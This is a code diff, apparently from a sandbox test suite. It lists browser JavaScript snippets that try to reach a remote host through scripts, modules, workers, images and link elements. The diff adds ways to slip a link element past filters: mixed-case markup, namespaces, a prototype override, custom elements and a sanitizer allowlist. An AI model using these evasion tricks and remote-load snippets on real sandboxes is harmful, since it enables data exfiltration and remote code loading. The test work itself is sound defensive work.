@@ -52,7 +52,13 @@ const attacksOn = (app: string, far: string, udpPort: number): Record<string, st
   events: `new EventSource('${far}/events')`,
   image: `new Image().src = '${far}/image'`,
   style: `document.body.style.background = 'url(${far}/style)'`,
-  link: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch']) document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: '${far}/' + rel }))`,
+  link: `return document.createElement('link') && 'made'`,
+  'link in the document': `return document.querySelector('link') && 'parsed'`,
+  'link by a namespace': `Object.defineProperty(Object.prototype, 'localName', { get: () => 'p' }); return document.createElementNS('http://www.w3.org/1999/xhtml', 'link') && 'made'`,
+  'link by markup': `document.body.insertAdjacentHTML('beforeend', '<Li' + 'Nk rel=preconnect href=${far}>'); return 'parsed'`,
+  'link by a prefix': `new DOMParser().parseFromString('<h:link xmlns:h="http://www.w3.org/1999/xhtml"/>', 'text/xml'); return 'parsed'`,
+  'link by a custom element': `class Own extends HTMLLinkElement {} customElements.define('x-y', Own, { extends: 'link' }); return new Own() && 'made'`,
+  'link by a sanitizer': `document.createElement('p').setHTML('<li' + 'nk>', { sanitizer: { elements: ['link'] } }); return 'parsed'`,
   script: `document.body.append(Object.assign(document.createElement('script'), { src: '${far}/script' }))`,
   module: `await import('${far}/module')`,
   worker: `new Worker('${far}/worker')`,
@@ -71,7 +77,9 @@ const attacksOn = (app: string, far: string, udpPort: number): Record<string, st
   'file on the disk': `Object.assign(document.createElement('a'), { download: 'x', href: 'data:,x' }).click()`,
 })
 
-const attackPage = (attacks: Record<string, string>): string => `<!doctype html><body>
+const attackPage = (
+  attacks: Record<string, string>,
+): string => `<!doctype html><link rel="preconnect" href="http://127.0.0.1:1"><body>
 <pre id="report"></pre><script>
 const report = []
 const attacks = { ${Object.entries(attacks).map(
